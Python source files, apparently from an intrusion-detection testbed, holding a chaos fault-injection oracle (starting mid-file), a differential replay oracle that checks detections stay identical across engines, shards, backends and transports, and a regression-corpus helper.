                        detections.extend(pipeline.ingest_alerts(list(event.alerts)))
                    else:
                        DifferentialOracle._apply_control(pipeline, event)
                if index == len(segments) - 1:
                    break
                # Cut: checkpoint, crash the workers, restore fresh.
                pipeline.checkpoint(checkpoint_path)
                if plan.backend == "process":
                    self._kill_workers(pipeline)
                pipeline.close()
                pipeline = self._build_pipeline(campaign, plan)
                pipeline.restore(checkpoint_path)
            result = ReplayResult(
                config=config,
                detections=detections,
                detection_log=list(pipeline.detections),
                notifications=list(pipeline.responder.notifications),
                actions=list(pipeline.responder.actions),
                counters={
                    key: pipeline.summary()[key]
                    for key in reference.counters
                },
            )
        finally:
            pipeline.close()
        return [
            ChaosFailure(plan.label, str(divergence))
            for divergence in DifferentialOracle._compare(reference, result)
        ]

    # -- kill: raise-policy contract -------------------------------------
    def _run_kill(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        failures: List[ChaosFailure] = []
        pipeline = self._build_pipeline(campaign, plan, restart_policy="raise")
        pool = pipeline.detector_pools["factor_graph"]
        error: Optional[BaseException] = None
        try:
            for batch_index, batch in enumerate(campaign_batches(campaign)):
                try:
                    pipeline.ingest_alerts(batch)
                except ShardWorkerError as exc:
                    error = exc
                    break
                if batch_index == plan.kill_batch:
                    self._kill_shard(pipeline, plan.shard)
            if error is None:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        "worker SIGKILL was never surfaced as ShardWorkerError",
                    )
                )
            else:
                if not isinstance(error, ShardWorkerError) or isinstance(
                    error, ShardRecoveryError
                ):
                    failures.append(
                        ChaosFailure(plan.label, f"wrong error type: {type(error)}")
                    )
                if getattr(error, "shard", None) != plan.shard:
                    failures.append(
                        ChaosFailure(
                            plan.label,
                            f"error names shard {getattr(error, 'shard', None)}, "
                            f"killed {plan.shard}",
                        )
                    )
                if "died without replying" not in getattr(error, "worker_traceback", ""):
                    failures.append(
                        ChaosFailure(
                            plan.label, "death detail lost from worker_traceback"
                        )
                    )
            if pipeline.detection_stage.pending_batches:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"{pipeline.detection_stage.pending_batches} stale "
                        "in-flight ticket(s) after the error",
                    )
                )
            if pool._pending:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"{len(pool._pending)} stale pool ticket(s) after the error",
                    )
                )
        finally:
            close_results = pipeline.close()
        for name, close_result in close_results.items():
            if not close_result.clean:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"pool {name!r} close escalated: {close_result.escalations}",
                    )
                )
        return failures

    # -- heal: restore-policy contract -----------------------------------
    def _run_heal(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        failures: List[ChaosFailure] = []
        stripped = _batches_only(campaign)
        reference = self._reference(
            stripped,
            OracleConfig(engine=plan.engine, n_shards=plan.n_shards, backend="serial"),
        )
        pipeline = self._build_pipeline(campaign, plan, restart_policy="restore")
        pool = pipeline.detector_pools["factor_graph"]
        detections: list[Detection] = []
        try:
            for batch_index, batch in enumerate(campaign_batches(stripped)):
                try:
                    detections.extend(pipeline.ingest_alerts(batch))
                except ShardWorkerError:
                    failures.append(
                        ChaosFailure(
                            plan.label,
                            f"restore policy surfaced an error:\n"
                            f"{traceback.format_exc()}",
                        )
                    )
                    return failures
                if batch_index == plan.kill_batch:
                    self._kill_shard(pipeline, plan.shard)
            result = ReplayResult(
                config=OracleConfig(
                    engine=plan.engine, n_shards=plan.n_shards, backend=plan.backend
                ),
                detections=detections,
                detection_log=list(pipeline.detections),
                notifications=list(pipeline.responder.notifications),
                actions=list(pipeline.responder.actions),
                counters={
                    key: pipeline.summary()[key] for key in reference.counters
                },
            )
            failures.extend(
                ChaosFailure(plan.label, str(divergence))
                for divergence in DifferentialOracle._compare(reference, result)
            )
            healed = [
                event
                for event in pool.recovery_log.for_shard(plan.shard)
                if event.healed
            ]
            if not healed:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"no healed recovery for shard {plan.shard} in RecoveryLog "
                        f"({len(pool.recovery_log)} event(s) total)",
                    )
                )
        finally:
            close_results = pipeline.close()
        for name, close_result in close_results.items():
            if not close_result.clean:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"pool {name!r} close escalated: {close_result.escalations}",
                    )
                )
        return failures

    # -- shm-kill: ring descriptors in flight at the moment of death -----
    def _run_shm_kill(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        """SIGKILL with uncollected shared-memory descriptors in flight.

        The pipeline runs on ``transport="shm"`` with a depth-2 window
        driven two-phase (submit, then collect lagging one batch), and
        the worker is frozen (SIGSTOP) just before batch ``kill_batch``
        is submitted and SIGKILLed right after -- before its collect --
        so the ring descriptor for that batch is genuinely outstanding.  The supervised heal must
        rebuild the replica and replay the ring payloads FIFO; the
        stream must stay bit-identical to a serial reference and no
        ring segment may survive the leg (checked by :meth:`run`).
        """
        failures: List[ChaosFailure] = []
        stripped = _batches_only(campaign)
        reference = self._reference(
            stripped,
            OracleConfig(engine=plan.engine, n_shards=plan.n_shards, backend="serial"),
        )
        pipeline = self._build_pipeline(campaign, plan, restart_policy="restore")
        pool = pipeline.detector_pools["factor_graph"]
        detections: list[Detection] = []
        window = pipeline.max_inflight
        inflight = 0
        try:
            try:
                for batch_index, batch in enumerate(campaign_batches(stripped)):
                    while inflight >= window:
                        detections.extend(pipeline.collect_detections())
                        inflight -= 1
                    if batch_index == plan.kill_batch:
                        # Freeze first so the worker cannot answer the
                        # kill batch before the SIGKILL lands — the
                        # descriptor stays in the ring and the heal is
                        # guaranteed to be observed at collect time.
                        self._freeze_shard(pipeline, plan.shard)
                    pipeline.submit_alerts(batch)
                    inflight += 1
                    if batch_index == plan.kill_batch:
                        self._kill_shard(pipeline, plan.shard)
                while inflight:
                    detections.extend(pipeline.collect_detections())
                    inflight -= 1
            except ShardWorkerError:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"restore policy surfaced an error:\n"
                        f"{traceback.format_exc()}",
                    )
                )
                return failures
            result = ReplayResult(
                config=OracleConfig(
                    engine=plan.engine,
                    n_shards=plan.n_shards,
                    backend=plan.backend,
                    transport=plan.transport,
                ),
                detections=detections,
                detection_log=list(pipeline.detections),
                notifications=list(pipeline.responder.notifications),
                actions=list(pipeline.responder.actions),
                counters={
                    key: pipeline.summary()[key] for key in reference.counters
                },
            )
            failures.extend(
                ChaosFailure(plan.label, str(divergence))
                for divergence in DifferentialOracle._compare(reference, result)
            )
            if not pool.shm_batches:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        "shm transport was never exercised "
                        f"(shm_batches=0, shm_fallbacks={pool.shm_fallbacks})",
                    )
                )
            healed = [
                event
                for event in pool.recovery_log.for_shard(plan.shard)
                if event.healed
            ]
            if not healed:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"no healed recovery for shard {plan.shard} in RecoveryLog "
                        f"({len(pool.recovery_log)} event(s) total)",
                    )
                )
        finally:
            close_results = pipeline.close()
        for name, close_result in close_results.items():
            if not close_result.clean:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"pool {name!r} close escalated: {close_result.escalations}",
                    )
                )
        return failures

    # -- service legs: the same faults through a live socket -------------
    # repro.service imports repro.fuzz.oracle, so these imports stay
    # local to keep the package import graph acyclic.
    @staticmethod
    def _drive_event(client, event) -> None:
        if event.kind == "batch":
            client.send_alerts(list(event.alerts))
        elif event.kind == "reset_entity":
            client.control("reset_entity", entity=event.entity)
        elif event.kind == "reset":
            client.control("reset")
        elif event.kind == "reopen":
            client.control("reopen")

    @staticmethod
    def _service_results(client) -> dict:
        reply = client.results()
        return {
            key: reply[key]
            for key in (
                "detections",
                "detection_log",
                "notifications",
                "actions",
                "counters",
            )
        }

    def _run_disconnect(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        """Abrupt client death mid-frame: acked work survives, server lives."""
        from ..service.server import ServiceConfig, start_service_in_thread
        from ..service.smoke import (
            build_service_pipeline,
            compare_results,
            reference_results,
        )

        failures: List[ChaosFailure] = []
        expected = reference_results(campaign)
        cut = max(1, plan.fault_event % len(campaign.events))
        handle = start_service_in_thread(
            lambda: build_service_pipeline(
                campaign,
                engine=plan.engine,
                n_shards=plan.n_shards,
                backend=plan.backend,
            ),
            ServiceConfig(),
        )
        try:
            first = handle.client()
            for event in campaign.events[:cut]:
                self._drive_event(first, event)
            # Vanish inside a request frame: a partial JSON line, then
            # a hard close with the reply unread.
            first._sock.sendall(b'{"op":"batch","alerts":[')
            first._sock.close()
            with handle.client() as second:
                if not second.ping().get("pong"):
                    failures.append(
                        ChaosFailure(plan.label, "server unresponsive after disconnect")
                    )
                for event in campaign.events[cut:]:
                    self._drive_event(second, event)
                second.drain()
                got = self._service_results(second)
        finally:
            handle.stop()
        failures.extend(
            ChaosFailure(plan.label, difference)
            for difference in compare_results(expected, got)
        )
        return failures

    def _run_reshard_kill(
        self, campaign: Campaign, plan: FaultPlan
    ) -> List[ChaosFailure]:
        """SIGKILL a worker, then reshard live: harvest must heal it."""
        from ..service.server import ServiceConfig, start_service_in_thread
        from ..service.smoke import (
            build_service_pipeline,
            compare_results,
            reference_results,
        )

        failures: List[ChaosFailure] = []
        expected = reference_results(campaign)
        handle = start_service_in_thread(
            lambda: build_service_pipeline(
                campaign,
                engine=plan.engine,
                n_shards=plan.n_shards,
                backend="process",
                restart_policy="restore",
            ),
            ServiceConfig(),
        )
        try:
            with handle.client() as client:
                batch_index = -1
                for event in campaign.events:
                    self._drive_event(client, event)
                    if event.kind == "batch" and event.alerts:
                        batch_index += 1
                        if batch_index == plan.kill_batch:
                            # Quiesce so the kill lands between batches,
                            # then crash the worker and reshard over the
                            # socket: the harvest phase finds the corpse
                            # and must rebuild its replica parent-side.
                            client.drain()
                            pool = handle.pipeline.detector_pools["factor_graph"]
                            worker = pool._workers[plan.shard]
                            worker.process.kill()
                            worker.process.join(timeout=5.0)
                            reply = client.reshard(plan.reshard_to)
                            if reply["reshard"]["to"] != plan.reshard_to:
                                failures.append(
                                    ChaosFailure(plan.label, f"bad reshard reply {reply!r}")
                                )
                client.drain()
                got = self._service_results(client)
                stats = client.stats()
        finally:
            handle.stop()
        failures.extend(
            ChaosFailure(plan.label, difference)
            for difference in compare_results(expected, got)
        )
        if stats["pipeline"]["reshard_events"] < 1:
            failures.append(ChaosFailure(plan.label, "no ReshardEvent recorded"))
        if stats["pipeline"]["recoveries_healed"] < 1:
            failures.append(
                ChaosFailure(
                    plan.label, "dead worker was not healed during the reshard harvest"
                )
            )
        if stats["n_shards"] != plan.reshard_to:
            failures.append(
                ChaosFailure(
                    plan.label,
                    f"service reports n_shards={stats['n_shards']}, "
                    f"resharded to {plan.reshard_to}",
                )
            )
        return failures

    def _run_shed(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        """Forced rejection, then client replay: zero loss, full order."""
        from ..service.admission import ServiceOverloadedError
        from ..service.server import ServiceConfig, start_service_in_thread
        from ..service.smoke import (
            build_service_pipeline,
            compare_results,
            reference_results,
        )

        failures: List[ChaosFailure] = []
        expected = reference_results(campaign)
        handle = start_service_in_thread(
            lambda: build_service_pipeline(
                campaign,
                engine=plan.engine,
                n_shards=plan.n_shards,
                backend=plan.backend,
            ),
            ServiceConfig(),
        )
        try:
            with handle.client() as client:
                batch_index = -1
                for event in campaign.events:
                    if event.kind == "batch" and event.alerts:
                        batch_index += 1
                        if batch_index == plan.fault_event:
                            # Admission slams shut; the un-retried probe
                            # must be refused (nothing half-enqueued)...
                            client.throttle("reject")
                            try:
                                client.request(
                                    {
                                        "op": "batch",
                                        "alerts": [a.to_dict() for a in event.alerts],
                                    }
                                )
                            except ServiceOverloadedError:
                                pass
                            else:
                                failures.append(
                                    ChaosFailure(
                                        plan.label, "forced reject admitted a batch"
                                    )
                                )
                            # ...and once reopened, the client replays
                            # the same batch at the same stream position.
                            client.throttle("open")
                    self._drive_event(client, event)
                client.drain()
                got = self._service_results(client)
                stats = client.stats()
        finally:
            handle.stop()
        failures.extend(
            ChaosFailure(plan.label, difference)
            for difference in compare_results(expected, got)
        )
        if stats["admission"]["rejected_batches"] < 1:
            failures.append(
                ChaosFailure(plan.label, "no rejection recorded by admission control")
            )
        if stats["pipeline"]["dropped_raw"] or stats["pipeline"]["dropped_alerts"]:
            failures.append(
                ChaosFailure(
                    plan.label,
                    "reject tier must be lossless, but drop counters moved",
                )
            )
        return failures

    # -- poison: typed mid-batch detector crash --------------------------
    def _run_poison(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        failures: List[ChaosFailure] = []
        tagger = AttackTagger(
            patterns=list(DEFAULT_CATALOGUE),
            engine=plan.engine,
            max_window=campaign.max_window,
            detection_threshold=campaign.detection_threshold,
        )
        pipeline = TestbedPipeline(
            detectors={
                "factor_graph": ChaosPoisonDetector(tagger, plan.poison_name)
            },
            n_shards=plan.n_shards,
            shard_backend=plan.backend,
        )
        error: Optional[BaseException] = None
        last_timestamp = 0.0
        probe_name = next(
            (a.name for a in campaign.alerts() if a.name != plan.poison_name), None
        )
        try:
            for batch in campaign_batches(campaign):
                last_timestamp = max(last_timestamp, batch[-1].timestamp)
                try:
                    pipeline.ingest_alerts(batch)
                except ShardWorkerError as exc:
                    error = exc
                    break
            if error is None:
                failures.append(
                    ChaosFailure(plan.label, "poisoned detector never surfaced")
                )
            else:
                if "chaos poison" not in getattr(error, "worker_traceback", ""):
                    failures.append(
                        ChaosFailure(
                            plan.label,
                            "worker-side traceback lost (no 'chaos poison' in "
                            f"{getattr(error, 'worker_traceback', '')[:200]!r})",
                        )
                    )
                # Shards are driven (serial) / collected (process) in
                # index order, so the surfaced error belongs to the
                # lowest shard holding a poison alert in the first
                # batch that contains the name.
                expected_shard = None
                for batch in campaign_batches(campaign):
                    shards = [
                        shard_of(alert.entity, plan.n_shards)
                        for alert in batch
                        if alert.name == plan.poison_name
                    ]
                    if shards:
                        expected_shard = min(shards)
                        break
                if expected_shard is not None and error.shard != expected_shard:
                    failures.append(
                        ChaosFailure(
                            plan.label,
                            f"error names shard {error.shard}, poisoned alert "
                            f"routes to {expected_shard}",
                        )
                    )
                # The pool must stay drivable after a detector crash.
                if probe_name is not None:
                    probe = Alert(
                        timestamp=last_timestamp + 1.0,
                        name=probe_name,
                        entity="chaos-probe",
                    )
                    try:
                        pipeline.ingest_alerts([probe])
                    except Exception:
                        failures.append(
                            ChaosFailure(
                                plan.label,
                                f"pipeline not drivable after poison:\n"
                                f"{traceback.format_exc()}",
                            )
                        )
        finally:
            close_results = pipeline.close()
        for name, close_result in close_results.items():
            if not close_result.clean:
                failures.append(
                    ChaosFailure(
                        plan.label,
                        f"pool {name!r} close escalated: {close_result.escalations}",
                    )
                )
        return failures


__all__ = [
    "FAULT_KINDS",
    "SERVICE_FAULT_KINDS",
    "FaultPlan",
    "ChaosPoisonDetector",
    "ChaosFailure",
    "ChaosVerdict",
    "ChaosComposer",
    "ChaosOracle",
    "campaign_batches",
]
