"""Cross-configuration differential replay oracle.

The repo's central correctness claim is that four independent execution
axes never change a detection:

* decode **engine** -- ``streaming`` / ``rebuild`` / ``naive`` /
  ``batched`` (the stacked cross-entity kernel),
* shard count -- entity-partitioned detector replicas,
* shard **backend** -- ``serial`` / ``process`` workers,
* pipeline **driver** -- batch-synchronous ``ingest_alerts``, the
  overlapped ``ingest_alert_batches``, and the raw-record
  ``ingest_raw_stream`` path,
* shard **transport** -- ``pickle`` (pipe-pickled columns) / ``shm``
  (zero-copy shared-memory rings with deep pipelining; process backend
  only -- serial pools move nothing between processes).

:class:`DifferentialOracle` turns that claim into a checked property:
it replays one :class:`~repro.fuzz.campaign.Campaign` through every
configuration in the matrix and asserts that detections (every field),
the cross-detector detection log, operator notifications, response
records, and the :class:`~repro.testbed.pipeline.PipelineStats`
counters are bit-identical to the reference configuration (the seed
path: ``naive`` engine, one serial shard, batch-synchronous driver).

Campaign control events map onto the pipeline's deferred-safe detector
controls (:meth:`TestbedPipeline.reset_entity` /
:meth:`~TestbedPipeline.reset_detectors` /
:meth:`~TestbedPipeline.reopen_detectors`), so mid-stream remediation
and detection-tier restarts are replayed at the same stream position
under every driver.
"""

from __future__ import annotations

import dataclasses
import itertools
import traceback
from typing import Iterable, Optional, Sequence

from ..core.alerts import Alert
from ..core.attack_tagger import AttackTagger, Detection
from ..incidents import DEFAULT_CATALOGUE
from ..telemetry.logsource import MonitorKind, RawLogRecord
from ..telemetry.normalizer import ZEEK_NOTICE_MAP
from ..testbed.pipeline import TestbedPipeline
from .campaign import Campaign

#: Decode engines under differential test.
ENGINES = ("streaming", "rebuild", "naive", "batched")
#: Shard counts under differential test.
SHARD_COUNTS = (1, 2, 4)
#: Sharding backends under differential test.
BACKENDS = ("serial", "process")
#: Pipeline drivers under differential test.
DRIVERS = ("sync", "alert_stream", "raw_stream")
#: Shard transports under differential test (``shm`` is exercised only
#: with the process backend; a serial pool has no transport).
TRANSPORTS = ("pickle", "shm")

#: ``PipelineStats``-derived summary keys that must match bit-for-bit
#: (timing-valued keys are excluded: wall time is not deterministic).
COMPARED_COUNTERS = (
    "raw_records",
    "normalized_alerts",
    "filtered_alerts",
    "detections",
    "responses",
    "notifications",
    "blocked_sources",
    "normalization_drop_rate",
    "filter_reduction",
    # Deterministic drop accounting (a pure function of mirror buffer
    # configuration and the stream; the oracle pipelines run unbounded
    # mirrors, so both sides must report zero).
    "dropped_raw",
    "dropped_alerts",
)

#: Inverse of the Zeek notice table (alert name -> notice name).
_ZEEK_NOTICE_FOR: dict[str, str] = {}
for _note, _alert_name in ZEEK_NOTICE_MAP.items():
    _ZEEK_NOTICE_FOR.setdefault(_alert_name, _note)


@dataclasses.dataclass(frozen=True)
class OracleConfig:
    """One point of the engine x shards x backend x driver x transport matrix."""

    engine: str = "streaming"
    n_shards: int = 1
    backend: str = "serial"
    driver: str = "sync"
    transport: str = "pickle"

    def __post_init__(self) -> None:
        if self.engine not in ENGINES:
            raise ValueError(f"unknown engine {self.engine!r}")
        if self.backend not in BACKENDS:
            raise ValueError(f"unknown backend {self.backend!r}")
        if self.driver not in DRIVERS:
            raise ValueError(f"unknown driver {self.driver!r}")
        if self.transport not in TRANSPORTS:
            raise ValueError(f"unknown transport {self.transport!r}")
        if self.n_shards < 1:
            raise ValueError("n_shards must be >= 1")

    @property
    def label(self) -> str:
        """Compact ``engine:shards:backend:driver[:transport]`` spec string.

        The transport field is emitted only when it differs from the
        default ``pickle``, so every pre-existing pinned label (and the
        committed benchmark baselines that embed them) is unchanged.
        """
        base = f"{self.engine}:{self.n_shards}:{self.backend}:{self.driver}"
        if self.transport != "pickle":
            return f"{base}:{self.transport}"
        return base

    @classmethod
    def parse(cls, spec: str) -> "OracleConfig":
        """Inverse of :attr:`label` (``streaming:4:process:sync[:shm]``)."""
        fields = spec.split(":")
        if len(fields) == 4:
            engine, shards, backend, driver = fields
            transport = "pickle"
        elif len(fields) == 5:
            engine, shards, backend, driver, transport = fields
        else:
            raise ValueError(f"malformed oracle config spec {spec!r}")
        return cls(
            engine=engine,
            n_shards=int(shards),
            backend=backend,
            driver=driver,
            transport=transport,
        )


#: The reference configuration: the seed execution path.
REFERENCE_CONFIG = OracleConfig(engine="naive", n_shards=1, backend="serial", driver="sync")


def full_matrix() -> list[OracleConfig]:
    """The complete engine x shards x backend x driver x transport matrix.

    72 pickle-transport configs (the pre-existing matrix, labels
    unchanged) plus the ``shm`` variant of every process-backend config
    (transport is a property of the worker boundary, so serial configs
    have no shm counterpart) -- 108 total.
    """
    configs = [
        OracleConfig(engine=e, n_shards=s, backend=b, driver=d)
        for e, s, b, d in itertools.product(ENGINES, SHARD_COUNTS, BACKENDS, DRIVERS)
    ]
    # Materialise before extending: a lazy generator over ``configs``
    # would also iterate the shm configs it appends (every one of them
    # process-backend) and never terminate.
    shm_variants = [
        OracleConfig(
            engine=c.engine,
            n_shards=c.n_shards,
            backend=c.backend,
            driver=c.driver,
            transport="shm",
        )
        for c in configs
        if c.backend == "process"
    ]
    return configs + shm_variants


def quick_matrix() -> list[OracleConfig]:
    """A small cross-section covering every axis value at least twice."""
    return [
        OracleConfig("streaming", 1, "serial", "sync"),
        OracleConfig("rebuild", 1, "serial", "sync"),
        OracleConfig("streaming", 4, "process", "alert_stream"),
        OracleConfig("streaming", 2, "serial", "raw_stream"),
        OracleConfig("rebuild", 2, "serial", "alert_stream"),
        OracleConfig("rebuild", 4, "serial", "sync"),
        OracleConfig("naive", 2, "process", "raw_stream"),
        OracleConfig("naive", 4, "serial", "alert_stream"),
        OracleConfig("streaming", 4, "process", "raw_stream"),
        OracleConfig("batched", 1, "serial", "sync"),
        OracleConfig("batched", 4, "process", "alert_stream"),
        OracleConfig("batched", 2, "serial", "raw_stream"),
        OracleConfig("streaming", 4, "process", "alert_stream", "shm"),
        OracleConfig("batched", 2, "process", "sync", "shm"),
        OracleConfig("naive", 4, "process", "raw_stream", "shm"),
    ]


def alert_to_zeek_record(alert: Alert) -> RawLogRecord:
    """Express one raw-capable alert as the Zeek notice producing it.

    The exact inverse of the normaliser's ``zeek_notice`` rule for
    alerts composed with ``raw_capable=True``: normalising the returned
    record yields an alert equal (field-for-field, attributes aside) to
    the input, with no dropped records -- which is what lets the
    ``raw_stream`` driver share counters with the alert drivers.
    """
    note = _ZEEK_NOTICE_FOR.get(alert.name)
    if note is None:
        raise ValueError(f"alert {alert.name!r} is not Zeek-notice expressible")
    if not alert.entity.startswith("host:"):
        raise ValueError(f"raw replay needs host entities, got {alert.entity!r}")
    host = alert.entity.split(":", 1)[1]
    return RawLogRecord(
        timestamp=alert.timestamp,
        monitor=MonitorKind.ZEEK,
        host=host,
        message=f"notice {note} from {alert.source_ip or '-'}",
        fields={"stream": "notice", "note": note, "orig_h": alert.source_ip},
    )


def alerts_to_zeek_records(alerts: Iterable[Alert]) -> list[RawLogRecord]:
    """Batch form of :func:`alert_to_zeek_record`."""
    return [alert_to_zeek_record(alert) for alert in alerts]


@dataclasses.dataclass
class ReplayResult:
    """Everything one configuration's replay produced."""

    config: OracleConfig
    detections: list[Detection]
    detection_log: list[tuple[str, Detection]]
    notifications: list
    actions: list
    counters: dict[str, float]


@dataclasses.dataclass(frozen=True)
class Divergence:
    """One field on which a configuration disagreed with the reference."""

    config: OracleConfig
    field: str
    detail: str

    def __str__(self) -> str:
        return f"[{self.config.label}] {self.field}: {self.detail}"


@dataclasses.dataclass
class CampaignVerdict:
    """The oracle's verdict for one campaign across the matrix."""

    campaign: Campaign
    reference: Optional[ReplayResult]
    divergences: list[Divergence]
    configs_run: int = 0
    configs_skipped: int = 0

    @property
    def ok(self) -> bool:
        """Whether every replayed configuration matched the reference."""
        return not self.divergences


class DifferentialOracle:
    """Replays campaigns across the configuration matrix and compares.

    Parameters
    ----------
    configs:
        The matrix to test (default :func:`full_matrix`).  ``raw_stream``
        configurations are skipped for campaigns that are not
        raw-capable (their alerts cannot be expressed as raw records).
    reference:
        The configuration every other one is compared against.
    """

    def __init__(
        self,
        configs: Optional[Sequence[OracleConfig]] = None,
        *,
        reference: OracleConfig = REFERENCE_CONFIG,
    ) -> None:
        self.configs = list(configs) if configs is not None else full_matrix()
        self.reference = reference

    # -- replay ----------------------------------------------------------
    def replay(self, campaign: Campaign, config: OracleConfig) -> ReplayResult:
        """Replay one campaign under one configuration."""
        tagger = AttackTagger(
            patterns=list(DEFAULT_CATALOGUE),
            engine=config.engine,
            max_window=campaign.max_window,
            detection_threshold=campaign.detection_threshold,
        )
        detections: list[Detection] = []
        with TestbedPipeline(
            detectors={"factor_graph": tagger},
            n_shards=config.n_shards,
            shard_backend=config.backend,
            transport=config.transport,
            # shm replays also exercise the deeper pipeline the zero-copy
            # transport exists for: two batches in flight per shard.
            max_inflight=2 if config.transport == "shm" else 1,
        ) as pipeline:
            if config.driver == "sync":
                for event in campaign.events:
                    if event.kind == "batch":
                        detections.extend(pipeline.ingest_alerts(list(event.alerts)))
                    else:
                        self._apply_control(pipeline, event)
            else:
                as_raw = config.driver == "raw_stream"

                def batches():
                    for event in campaign.events:
                        if event.kind == "batch":
                            if as_raw:
                                yield alerts_to_zeek_records(event.alerts)
                            else:
                                yield list(event.alerts)
                        else:
                            # Applied mid-stream, possibly with a batch
                            # in flight: the pipeline defers it to the
                            # next submission boundary.
                            self._apply_control(pipeline, event)

                if as_raw:
                    detections = pipeline.ingest_raw_stream(batches())
                else:
                    detections = pipeline.ingest_alert_batches(batches())
            return ReplayResult(
                config=config,
                detections=detections,
                detection_log=list(pipeline.detections),
                notifications=list(pipeline.responder.notifications),
                actions=list(pipeline.responder.actions),
                counters={key: pipeline.summary()[key] for key in COMPARED_COUNTERS},
            )

    @staticmethod
    def _apply_control(pipeline: TestbedPipeline, event) -> None:
        if event.kind == "reset_entity":
            pipeline.reset_entity(event.entity)
        elif event.kind == "reset":
            pipeline.reset_detectors()
        elif event.kind == "reopen":
            pipeline.reopen_detectors()

    # -- comparison ------------------------------------------------------
    def run(self, campaign: Campaign) -> CampaignVerdict:
        """Replay the campaign across the matrix; collect divergences."""
        verdict = CampaignVerdict(campaign=campaign, reference=None, divergences=[])
        try:
            reference = self.replay(campaign, self.reference)
        except Exception:
            verdict.divergences.append(
                Divergence(self.reference, "exception", traceback.format_exc())
            )
            return verdict
        verdict.reference = reference
        for config in self.configs:
            if config == self.reference:
                continue
            if config.driver == "raw_stream" and not campaign.raw_capable:
                verdict.configs_skipped += 1
                continue
            verdict.configs_run += 1
            try:
                result = self.replay(campaign, config)
            except Exception:
                verdict.divergences.append(
                    Divergence(config, "exception", traceback.format_exc())
                )
                continue
            verdict.divergences.extend(self._compare(reference, result))
        return verdict

    def check(self, campaign: Campaign) -> bool:
        """Whether the campaign replays identically across the matrix."""
        return self.run(campaign).ok

    @staticmethod
    def _compare(reference: ReplayResult, result: ReplayResult) -> list[Divergence]:
        divergences: list[Divergence] = []

        def diff_list(field: str, expected: list, got: list) -> None:
            if expected == got:
                return
            if len(expected) != len(got):
                detail = f"length {len(got)} != {len(expected)}"
            else:
                position = next(
                    i for i, (a, b) in enumerate(zip(expected, got)) if a != b
                )
                detail = (
                    f"first mismatch at index {position}: "
                    f"{got[position]!r} != {expected[position]!r}"
                )
            divergences.append(Divergence(result.config, field, detail))

        diff_list("detections", reference.detections, result.detections)
        diff_list("detection_log", reference.detection_log, result.detection_log)
        diff_list("notifications", reference.notifications, result.notifications)
        diff_list("actions", reference.actions, result.actions)
        # ``Alert.__eq__`` excludes ``attributes`` (compare=False), so
        # the list comparisons above cannot see attribute corruption --
        # e.g. a columnar wire-format bug in the process backend.
        # Compare the trigger metadata explicitly.  Raw-driver replays
        # are exempt: their alerts are rebuilt by the normaliser, whose
        # attributes come from the Zeek record, not the campaign.
        if result.config.driver != "raw_stream" and len(result.detections) == len(
            reference.detections
        ):
            for position, (expected, got) in enumerate(
                zip(reference.detections, result.detections)
            ):
                if dict(got.trigger.attributes) != dict(expected.trigger.attributes):
                    divergences.append(
                        Divergence(
                            result.config,
                            "detections",
                            f"trigger attributes mismatch at index {position}: "
                            f"{dict(got.trigger.attributes)!r} != "
                            f"{dict(expected.trigger.attributes)!r}",
                        )
                    )
                    break
        for key in COMPARED_COUNTERS:
            if reference.counters[key] != result.counters[key]:
                divergences.append(
                    Divergence(
                        result.config,
                        f"counter:{key}",
                        f"{result.counters[key]!r} != {reference.counters[key]!r}",
                    )
                )
        return divergences


__all__ = [
    "ENGINES",
    "SHARD_COUNTS",
    "BACKENDS",
    "DRIVERS",
    "TRANSPORTS",
    "COMPARED_COUNTERS",
    "OracleConfig",
    "REFERENCE_CONFIG",
    "full_matrix",
    "quick_matrix",
    "alert_to_zeek_record",
    "alerts_to_zeek_records",
    "ReplayResult",
    "Divergence",
    "CampaignVerdict",
    "DifferentialOracle",
]
