"""The replay corpus: shrunk failing campaigns, replayed forever after.

Any campaign the differential oracle flags is shrunk
(:mod:`repro.fuzz.shrinker`) and written -- seed plus shrunk event list
-- into ``tests/regressions/``.  The tier-1 suite replays every file in
that directory through the full configuration matrix on every run, so a
divergence fixed once can never silently return.

The format is the campaign JSON of
:meth:`repro.fuzz.campaign.Campaign.save` (human-diffable, stable key
order), one campaign per ``*.json`` file.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Iterator, Optional

from .campaign import Campaign

#: Default location of the replay corpus: anchored to the repository
#: root (three levels above this module in the src/repro/fuzz layout),
#: not the current working directory -- a repro written from any cwd
#: must land where ``tests/test_regressions.py`` scans.
DEFAULT_REGRESSIONS_DIR = (
    Path(__file__).resolve().parents[3] / "tests" / "regressions"
)


def regression_name(campaign: Campaign) -> str:
    """Deterministic filename for a campaign (label + content digest)."""
    digest = hashlib.sha256(
        json.dumps(campaign.to_dict(), sort_keys=True).encode("utf-8")
    ).hexdigest()[:10]
    label = campaign.label or f"seed{campaign.seed}"
    safe = "".join(c if c.isalnum() or c in "-_." else "_" for c in label)
    return f"{safe}-{digest}.json"


def save_regression(
    campaign: Campaign,
    directory: str | Path = DEFAULT_REGRESSIONS_DIR,
    *,
    name: Optional[str] = None,
) -> Path:
    """Write one campaign into the replay corpus; returns the path."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    return campaign.save(directory / (name or regression_name(campaign)))


def iter_regressions(
    directory: str | Path = DEFAULT_REGRESSIONS_DIR,
) -> Iterator[tuple[Path, Campaign]]:
    """Yield ``(path, campaign)`` for every repro in the corpus (sorted)."""
    directory = Path(directory)
    if not directory.is_dir():
        return
    for path in sorted(directory.glob("*.json")):
        yield path, Campaign.load(path)


__all__ = [
    "DEFAULT_REGRESSIONS_DIR",
    "regression_name",
    "save_regression",
    "iter_regressions",
]
