"""Delta-debugging shrinker for failing campaigns.

